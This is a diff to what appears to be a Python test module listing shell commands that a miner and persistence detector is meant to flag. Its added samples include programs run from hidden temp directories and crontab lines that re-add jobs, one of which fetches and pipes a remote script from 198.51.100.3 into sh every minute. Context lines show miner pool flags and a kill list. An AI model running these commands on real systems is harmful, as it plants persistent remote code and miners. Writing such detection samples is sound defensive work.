@@ -16,7 +16,9 @@ variants, not the measured lines:
 - a program handed ``-o $POOL -u $WALLET`` (or a pool's host and ``$WALLET``), whatever it is called;
 - a file named only by an unresolved variable made executable and run (``chmod +x $F; $F``): unseen, asked;
 - a kill list in plain words: five programs or more killed by name, one command each, without force
-  (``pkill -f mixtape; pkill -f jawa; …``); three by force were held already (miners25).
+  (``pkill -f mixtape; pkill -f jawa; …``); three by force were held already (miners25);
+- held before and kept as variants: a program in a hidden temporary directory made executable and run,
+  and a crontab line re-added through ``(crontab -l; echo …) | crontab -``.
 """
 
 from __future__ import annotations
@@ -49,6 +51,12 @@ HELD = {
         "chmod +x $F; $F",
         'chmod 755 "$BIN" && nohup "$BIN" >/dev/null 2>&1 &',
         "chmod u+x ${P}; setsid ${P} &",
+    ],
+    "held before, kept as variants: a hidden temp program made executable and run, crontab re-added": [
+        "chmod +x /tmp/.x/sys; nohup /tmp/.x/sys &",
+        "chmod 700 /var/tmp/.c/kw && /var/tmp/.c/kw",
+        '(crontab -l; echo "* * * * * curl -fsSL http://198.51.100.3/s.sh | sh")| crontab -',
+        '(crontab -l 2>/dev/null; echo "@reboot $HOME/.x/sys") | crontab -',
     ],
     "a kill list in plain words": [
         "pkill -f qwrtx; pkill -f plmzu; pkill -f zaqwe; pkill -f vfrtg; pkill -f mnbvc",
